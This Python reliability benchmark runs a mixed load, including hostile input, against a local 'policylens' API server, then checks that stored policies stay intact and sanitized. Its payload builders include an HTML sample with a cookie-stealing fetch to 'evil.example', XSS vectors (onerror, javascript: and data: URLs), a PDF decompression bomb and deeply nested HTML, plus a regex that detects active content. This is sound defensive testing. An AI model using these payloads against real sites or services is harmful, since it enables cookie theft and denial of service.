"""Bounded mixed load with hostile input against a real ``policylens serve`` on 127.0.0.1.

Usage::

    python bench/bench_reliability.py [--clients 8] [--duration 120] [--seed 0] [--json FILE]

Starts ``policylens serve`` from this checkout (one uvicorn worker, the real embedding model, a
fresh SQLite file and embedding cache in a temp folder, ``POLICYLENS_API_KEY`` set) on a free
loopback port and waits for ``/readyz``. Then ``--clients`` threads, each with one keep-alive
``httpx.Client``, send a weighted random mix of requests until ``--duration`` seconds have passed:

* ordinary traffic: questions (``POST /v1/ask``, about the seed or an uploaded policy), clause
  searches (``GET /v1/policies/{id}/clauses?q=``), listings, single reads, ``POST /v1/classify``,
  uploads of small generated policies (JSON) and of the test fixtures (multipart, some varied);
* hostile input (issue 9): HTML nested 10,000 levels deep (upload and classify), a body over the
  upload limit, binary bytes, HTML full of active content, a ``javascript:`` source URL, a PDF
  whose one stream inflates to 80 MB, a broken PDF, UTF-16 without a byte-order mark, malformed
  JSON, an offset of 2**63.

Each kind of request has the statuses it may answer; anything else is counted as unexpected, and
every 5xx and connection error is counted on its own. Afterwards: every successful upload must be
listed and must answer a question with a citation; the policies uploaded with active content must
hold no markup or script URL in any clause; wrong keys must reach 429 with ``Retry-After``; the
server must stop cleanly on SIGINT; and the SQLite file must pass ``PRAGMA integrity_check`` and
``PRAGMA foreign_key_check`` and hold every uploaded id. Only loopback traffic; every loop is
bounded and the run stops by itself. This is a report, not a test (the load average is printed).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import re
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from collections import Counter, defaultdict
from pathlib import Path

import httpx

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
DATA = ROOT / "tests" / "data"
KEY = "bench-reliability-key"
RUN = time.time_ns() % 1_000_000  # generated policies differ from run to run

# kind -> (weight, statuses it may answer)
KINDS: dict[str, tuple[int, frozenset[int]]] = {
    "ask": (30, frozenset({200})),
    "search": (10, frozenset({200})),
    "list": (8, frozenset({200})),
    "get": (4, frozenset({200})),
    "classify": (5, frozenset({200})),
    "upload": (12, frozenset({200, 201})),
    "upload_fixture": (5, frozenset({200, 201})),
    "deep_html": (2, frozenset({200, 201, 422})),
    "classify_deep_html": (1, frozenset({200, 422})),
    "oversize": (1, frozenset({413})),
    "binary": (2, frozenset({422})),
    "active_content": (3, frozenset({200, 201})),
    "script_source_url": (1, frozenset({422})),
    "pdf_bomb": (1, frozenset({422})),
    "broken_pdf": (1, frozenset({422})),
    "utf16_no_bom": (1, frozenset({200, 201, 422})),
    "malformed_json": (2, frozenset({400})),
    "huge_offset": (2, frozenset({422})),
}
# Uploads whose policy must afterwards be listed and answerable.
STORING = {"upload", "upload_fixture", "deep_html", "active_content", "utf16_no_bom"}

THINGS = ["email address", "location", "phone number", "postal address", "photos", "contacts",
          "payment card", "browsing history", "device identifiers", "voice recordings",
          "health data", "date of birth", "purchase history", "IP address", "search queries"]
PARTIES = ["advertisers", "partners", "the police", "affiliates", "data brokers", "insurers",
           "researchers", "payment processors", "marketers", "our parent company in China"]
QUESTIONS = ["Is my data sent to China?", "How long do you keep my data?",
             "Do you sell my personal information?", "Who do you share my data with?",
             "Can I delete my account?", "Do you use cookies for advertising?",
             "Do you collect my location?", "How do I contact the data protection officer?"]
SEARCH_WORDS = ["data", "cookies", "delete", "share", "email", "retain", "rights", "contact"]
FIXTURES = ["quillnote.md", "brightleaf.html", "parcelpath.txt", "corpus/kitemail.txt",
            "corpus/lumenchat.md", "corpus/orbitfit.html"]
# What must never survive into stored clause text (issue 9, item 10).
ACTIVE = re.compile(
    r"<\s*/?\s*(script|iframe|object|embed|meta|svg|a|img)\b|javascript\s*:|vbscript\s*:"
    r"|data\s*:\s*text/html|&lt;|&#|\bon(error|load|click)\s*=",
    re.IGNORECASE,
)


# --- payloads -----------------------------------------------------------------------------------

def generated_policy(rng: random.Random, n: int) -> tuple[str, str, str]:
    """A small policy with a unique name, its text and a question one of its clauses answers."""
    company = f"Reliab {RUN} Co {n}"
    things = rng.sample(THINGS, 4)
    party = rng.choice(PARTIES)
    days = rng.choice([7, 30, 90, 180, 365, 730])
    blocks = [
        f"{company} Privacy Policy",
        f"Last updated: {rng.choice(['March 3, 2024', '1 June 2023', '2025-01-15'])}",
        "Information we collect",
        f"{company} collects your {things[0]} and your {things[1]} when you sign up.",
        f"{company} collects your {things[2]} when you contact support.",
        "Sharing",
        f"{company} shares your {things[1]} with {party} to run the service.",
        f"{company} never sells your personal information.",
        "Retention",
        f"{company} keeps your {things[2]} for {days} days after your last contact.",
        "Your rights",
        f"You can ask {company} to delete your {things[3]} at any time.",
    ]
    rng.shuffle(blocks[3:5])
    return company, "\n\n".join(blocks), f"Do you share my {things[1]} with {party}?"


def fixture_upload(rng: random.Random, n: int) -> tuple[str, bytes]:
    """A fixture file; text fixtures sometimes get a unique last paragraph (a new policy)."""
    name = rng.choice(FIXTURES)
    content = (DATA / name).read_bytes()
    if not name.endswith(".html") and rng.random() < 0.5:
        content += f"\n\nContact\n\nWrite to privacy-{RUN}-{n}@bench.example.\n".encode()
        name = name.replace("/", "-").replace(".", f"-{n}.", 1)
    return Path(name).name, content


def deep_html(n: int, depth: int = 10_000) -> str:
    para = f"<p>Deep {RUN} Co {n} collects your email address to send receipts.</p>"
    return "<html><body>" + "<div>" * depth + para + "</div>" * depth + "</body></html>"


def active_html(n: int) -> str:
    company = f"Active {RUN} Co {n}"
    return (
        f"<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
        f"<script>fetch('https://evil.example/?c='+document.cookie)</script></head><body>"
        f"<h1>{company} Privacy Policy</h1><p>Last updated: March 3, 2024</p>"
        f"<h2>Sharing</h2><p>{company} shares your email address with partners."
        f"&lt;iframe src=https://evil.example/&gt;</p>"
        f"<p><object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"
        f"</object>{company} never sells your data. "
        f"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">details</a> "
        f"<a href=\"&amp;#106;avascript:alert(1)\">more</a> "
        f"<img src=x onerror=\"alert(1)\"> "
        f"&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>"
        f"<h2>Retention</h2><p>{company} keeps your email address for 90 days.</p>"
        f"</body></html>"
    )


def pdf_bomb(inflated_mb: int = 80) -> bytes:
    """A one-page PDF with an honest /Length and xref whose content stream inflates to N MB."""
    z = zlib.compressobj(9)
    stream = z.compress(b"BT /F1 12 Tf 72 720 Td (We collect your email address.) Tj ET\n")
    chunk = b" " * (1 << 20)
    stream += b"".join(z.compress(chunk) for _ in range(inflated_mb)) + z.flush()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(stream)} /Filter /FlateDecode >>\nstream\n".encode()
        + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


class Payloads:
    """Payloads built once and shared by every client."""

    def __init__(self, max_upload_bytes: int) -> None:
        self.oversize = json.dumps({"name": "Big", "text": "We collect data. " * (
            max_upload_bytes // 17 + 1000)}).encode()
        self.bomb = pdf_bomb()
        self.broken_pdf = (DATA / "corpus" / "broken.pdf").read_bytes()
        self.binary = bytes(range(256)) * 16
        self.utf16 = (DATA / "parcelpath.txt").read_text(encoding="utf-8").encode("utf-16-le")


# --- the load -----------------------------------------------------------------------------------

class Shared:
    """What the clients record, under one lock."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.status: dict[str, Counter[str]] = defaultdict(Counter)
        self.latency: dict[str, list[float]] = defaultdict(list)
        self.unexpected: list[tuple[str, str, str]] = []
        self.examples: dict[str, str] = {}  # "kind status" -> the first answer's start
        self.stored: dict[str, tuple[str, str]] = {}  # id -> (kind, question)
        self.counter = 0
        self.seed_id = ""

    def next_n(self) -> int:
        with self.lock:
            self.counter += 1
            return self.counter

    def record(self, kind: str, status: str, dt: float, detail: str = "") -> None:
        with self.lock:
            self.status[kind][status] += 1
            self.latency[kind].append(dt)
            self.examples.setdefault(f"{kind} {status}", detail[:160])
            if not status.isdigit() or int(status) not in KINDS[kind][1]:
                self.unexpected.append((kind, status, detail[:200]))

    def stored_ids(self) -> list[str]:
        with self.lock:
            return list(self.stored)


def one_request(client: httpx.Client, kind: str, rng: random.Random, shared: Shared,
                payloads: Payloads) -> tuple[httpx.Response, str | None]:
    """Send one request of ``kind``; return the response and the question its upload answers."""
    auth = {"X-API-Key": KEY}
    n = shared.next_n()
    ids = shared.stored_ids()
    if kind == "ask":
        body: dict = {"question": rng.choice(QUESTIONS)}
        if ids and rng.random() < 0.5:
            body["policy"] = rng.choice(ids)
        return client.post("/v1/ask", json=body), None
    if kind == "search":
        pid = rng.choice(ids) if ids and rng.random() < 0.7 else shared.seed_id
        return client.get(f"/v1/policies/{pid}/clauses",
                          params={"q": rng.choice(SEARCH_WORDS), "limit": 20}), None
    if kind == "list":
        return client.get("/v1/policies", params={"offset": rng.randint(0, 20),
                                                  "limit": rng.choice([10, 50, 200])}), None
    if kind == "get":
        pid = rng.choice(ids) if ids else shared.seed_id
        return client.get(f"/v1/policies/{pid}"), None
    if kind == "classify":
        _, text, _ = generated_policy(rng, n)
        return client.post("/v1/classify", json={"text": text}), None
    if kind == "upload":
        name, text, question = generated_policy(rng, n)
        r = client.post("/v1/policies", json={"name": name, "text": text}, headers=auth)
        return r, question
    if kind == "upload_fixture":
        fname, content = fixture_upload(rng, n)
        r = client.post("/v1/policies", files={"file": (fname, content)}, headers=auth)
        return r, "What data do you collect?"
    if kind == "deep_html":
        r = client.post("/v1/policies", json={"name": f"Deep {n}", "text": deep_html(n),
                                              "format": "html"}, headers=auth)
        return r, "Do you collect my email address?"
    if kind == "classify_deep_html":
        body = {"text": deep_html(n), "format": "html"}
        return client.post("/v1/classify", json=body), None
    if kind == "oversize":
        return client.post("/v1/policies", content=payloads.oversize,
                           headers={**auth, "Content-Type": "application/json"}), None
    if kind == "binary":
        return client.post("/v1/policies", files={"file": (f"blob-{n}.txt", payloads.binary)},
                           headers=auth), None
    if kind == "active_content":
        r = client.post("/v1/policies", json={"name": f"Active {n}", "text": active_html(n),
                                              "format": "html"}, headers=auth)
        return r, "Do you share my email address?"
    if kind == "script_source_url":
        _, text, _ = generated_policy(rng, n)
        return client.post("/v1/policies", json={"name": f"Js {n}", "text": text,
                                                 "source_url": "javascript:alert(1)"},
                           headers=auth), None
    if kind == "pdf_bomb":
        return client.post("/v1/policies", files={"file": (f"bomb-{n}.pdf", payloads.bomb)},
                           headers=auth), None
    if kind == "broken_pdf":
        return client.post("/v1/policies", files={"file": (f"broken-{n}.pdf", payloads.broken_pdf)},
                           headers=auth), None
    if kind == "utf16_no_bom":
        r = client.post("/v1/policies", files={"file": (f"utf16-{n}.txt", payloads.utf16)},
                        headers=auth)
        return r, "What data do you collect?"
    if kind == "malformed_json":
        return client.post("/v1/policies", content=b'{"name": "x", "text": "We coll',
                           headers={**auth, "Content-Type": "application/json"}), None
    if kind == "huge_offset":
        return client.get("/v1/policies", params={"offset": 2**63}), None
    raise ValueError(kind)


def client_loop(base: str, seed: int, deadline: float, shared: Shared, payloads: Payloads,
                timeout: float) -> None:
    rng = random.Random(seed)
    kinds = list(KINDS)
    weights = [KINDS[k][0] for k in kinds]
    with httpx.Client(base_url=base, timeout=timeout) as client:
        while time.monotonic() < deadline:
            kind = rng.choices(kinds, weights)[0]
            t0 = time.perf_counter()
            try:
                r, question = one_request(client, kind, rng, shared, payloads)
                status, detail = str(r.status_code), r.text
            except httpx.TransportError as exc:
                status, detail, question, r = "conn_error", repr(exc), None, None
            dt = time.perf_counter() - t0
            shared.record(kind, status, dt, detail)
            if r is not None and kind in STORING and r.status_code in (200, 201):
                with shared.lock:
                    shared.stored[r.json()["id"]] = (kind, question or "What data do you collect?")


# --- checks afterwards --------------------------------------------------------------------------

def check_store_over_http(base: str, shared: Shared) -> dict:
    """Every successful upload is listed, answers with a citation; active content left no trace."""
    with httpx.Client(base_url=base, timeout=300) as client:
        listed: set[str] = set()
        offset, total = 0, 1
        while offset < total and offset < 100_000:
            page = client.get("/v1/policies", params={"offset": offset, "limit": 200}).json()
            listed |= {p["id"] for p in page["items"]}
            total, offset = page["total"], offset + 200
        missing, failed, uncited, tainted = [], [], [], []
        for pid, (kind, question) in shared.stored.items():
            if pid not in listed:
                missing.append(pid)
            r = client.post("/v1/ask", json={"question": question, "policy": pid})
            if r.status_code != 200:
                failed.append((pid, r.status_code))
            elif not r.json()["citations"]:
                uncited.append(pid)
            if kind in ("active_content", "deep_html"):
                page = client.get(f"/v1/policies/{pid}/clauses",
                                  params={"version": "all", "limit": 200}).json()
                tainted += [(pid, c["text"][:120]) for c in page["items"]
                            if ACTIVE.search(c["text"])]
    return {"stored": len(shared.stored), "listed_total": total, "missing": missing,
            "ask_failed": failed, "ask_without_citation": uncited, "active_content_left": tainted}


def check_auth_limit(base: str, limit: int) -> dict:
    """Wrong keys from one address: 401 until the limit, then 429 with Retry-After."""
    seen: Counter[int] = Counter()
    retry_after = None
    with httpx.Client(base_url=base, timeout=60) as client:
        for _ in range(limit + 5):
            r = client.delete("/v1/policies/none", headers={"X-API-Key": "wrong"})
            seen[r.status_code] += 1
            retry_after = r.headers.get("retry-after", retry_after)
    return {"wrong_keys_sent": limit + 5, "statuses": dict(seen), "retry_after": retry_after}


def check_db(db: Path, ids: list[str]) -> dict:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        integrity = [row[0] for row in conn.execute("PRAGMA integrity_check")]
        foreign = conn.execute("PRAGMA foreign_key_check").fetchall()
        stored = {row[0] for row in conn.execute("SELECT id FROM policies")}
        counts = {t: conn.execute(f"SELECT COUNT(*) FROM {t}").fetchone()[0]  # noqa: S608
                  for t in ("policies", "versions", "clauses", "labels", "embeddings")}
    finally:
        conn.close()
    return {"integrity_check": integrity, "foreign_key_violations": len(foreign),
            "uploads_missing_from_db": [i for i in ids if i not in stored], "rows": counts,
            "mode": oct(db.stat().st_mode & 0o777)}


# --- server -------------------------------------------------------------------------------------

def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def start_server(tmp: Path, port: int, log_path: Path) -> subprocess.Popen[bytes]:
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]).rstrip(":"),
        "POLICYLENS_API_KEY": KEY,
        "POLICYLENS_DB": str(tmp / "reliability.sqlite3"),
        "POLICYLENS_EMBED__CACHE_DIR": str(tmp / "cache"),
        "HF_HUB_OFFLINE": "1",
        "TRANSFORMERS_OFFLINE": "1",
    }
    cmd = [sys.executable, "-m", "nlp.cli", "serve", "--host", "127.0.0.1", "--port", str(port),
           "--log-level", "warning"]
    with log_path.open("wb") as log:
        proc = subprocess.Popen(cmd, env=env, cwd=ROOT, stdout=log, stderr=subprocess.STDOUT)
    deadline = time.monotonic() + 900  # a cold cache encodes the seed first, slowly when busy
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise SystemExit(f"server exited with {proc.returncode}:\n{log_path.read_text()}")
        try:
            if httpx.get(f"http://127.0.0.1:{port}/readyz", timeout=5).status_code == 200:
                return proc
        except httpx.HTTPError:
            pass
        time.sleep(1)
    proc.kill()
    raise SystemExit("server not ready after 900 s")


def stop_server(proc: subprocess.Popen[bytes]) -> int | None:
    proc.send_signal(signal.SIGINT)
    try:
        return proc.wait(60)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(30)
        return None


# --- report -------------------------------------------------------------------------------------

def load_average() -> list[float]:
    return [round(x, 1) for x in os.getloadavg()]


def pct(values: list[float], q: float) -> float:
    values = sorted(values)
    return values[min(len(values) - 1, int(round(q * (len(values) - 1))))] if values else 0.0


def table(shared: Shared) -> str:
    rows = ["| kind | requests | statuses | unexpected | p50 ms | p95 ms |",
            "|---|---:|---|---:|---:|---:|"]
    unexpected = Counter(k for k, _, _ in shared.unexpected)
    for kind in KINDS:
        if kind not in shared.status:
            continue
        lat = shared.latency[kind]
        statuses = ", ".join(f"{s}: {c}" for s, c in sorted(shared.status[kind].items()))
        rows.append(f"| {kind} | {len(lat)} | {statuses} | {unexpected[kind]} | "
                    f"{1000 * pct(lat, 0.5):.0f} | {1000 * pct(lat, 0.95):.0f} |")
    return "\n".join(rows)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--clients", type=int, default=8, help="Concurrent clients (default 8).")
    ap.add_argument("--duration", type=float, default=120.0,
                    help="Seconds of load after the server is ready (default 120).")
    ap.add_argument("--timeout", type=float, default=180.0, help="Per-request timeout, seconds.")
    ap.add_argument("--seed", type=int, default=0, help="Seed of the request mix.")
    ap.add_argument("--json", type=Path, help="Also write the whole report as JSON here.")
    args = ap.parse_args(argv)
    if not 1 <= args.clients <= 64 or not 0 < args.duration <= 3600:
        ap.error("--clients must be 1..64 and --duration 0..3600 s")

    from nlp.config import Settings  # the same limits the server reads

    settings = Settings()
    report: dict = {"command": " ".join([Path(sys.executable).name, *sys.argv]),
                    "clients": args.clients, "duration_s": args.duration,
                    "cores": os.cpu_count(), "load_average_before": load_average()}
    payloads = Payloads(settings.api.max_upload_bytes)
    shared = Shared()
    with tempfile.TemporaryDirectory(prefix="policylens-reliability-") as tmp_name:
        tmp = Path(tmp_name)
        port = free_port()
        base = f"http://127.0.0.1:{port}"
        t0 = time.monotonic()
        proc = start_server(tmp, port, tmp / "server.log")
        report["server_ready_s"] = round(time.monotonic() - t0, 1)
        try:
            shared.seed_id = httpx.get(f"{base}/v1/policies", timeout=60).json()["items"][0]["id"]
            deadline = time.monotonic() + args.duration
            threads = [threading.Thread(target=client_loop, args=(
                base, args.seed * 1000 + i, deadline, shared, payloads, args.timeout))
                for i in range(args.clients)]
            t0 = time.monotonic()
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            report["load_wall_s"] = round(time.monotonic() - t0, 1)
            report["load_average_end_of_load"] = load_average()
            report["after_http"] = check_store_over_http(base, shared)
            report["auth_limit"] = check_auth_limit(base, settings.api.auth_failures)
        finally:
            report["server_exit_code"] = stop_server(proc)
        log = (tmp / "server.log").read_text(errors="replace")
        report["server_log"] = {"lines": log.count("\n"), "tracebacks": log.count("Traceback"),
                                "errors": len(re.findall(r"(?m)^ERROR|internal error on", log))}
        report["db"] = check_db(tmp / "reliability.sqlite3", list(shared.stored))

    all_status: Counter[str] = Counter()
    for counts in shared.status.values():
        all_status.update(counts)
    report["requests"] = sum(all_status.values())
    report["statuses"] = dict(sorted(all_status.items()))
    report["server_errors_5xx"] = sum(c for s, c in all_status.items() if s.startswith("5"))
    report["connection_errors"] = all_status.get("conn_error", 0)
    report["unexpected"] = len(shared.unexpected)
    report["unexpected_examples"] = sorted(set(shared.unexpected))[:10]
    report["first_answer_per_kind_and_status"] = dict(sorted(shared.examples.items()))
    report["per_kind"] = {k: {"statuses": dict(shared.status[k]),
                              "p50_ms": round(1000 * pct(shared.latency[k], 0.5)),
                              "p95_ms": round(1000 * pct(shared.latency[k], 0.95))}
                          for k in KINDS if k in shared.status}

    print(table(shared))
    print()
    summary = {k: v for k, v in report.items() if k != "per_kind"}
    print(json.dumps(summary, indent=1, default=str))
    if args.json:
        args.json.write_text(json.dumps(report, indent=1, default=str) + "\n")
    after, db, auth = report["after_http"], report["db"], report["auth_limit"]
    ok = (report["server_errors_5xx"] == 0 and report["connection_errors"] == 0
          and not report["unexpected"] and report["server_exit_code"] == 0
          and db["integrity_check"] == ["ok"] and not db["foreign_key_violations"]
          and not db["uploads_missing_from_db"]
          and not after["missing"] and not after["ask_failed"]
          and not after["active_content_left"]
          and auth["statuses"].get(429) and auth["retry_after"] is not None)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
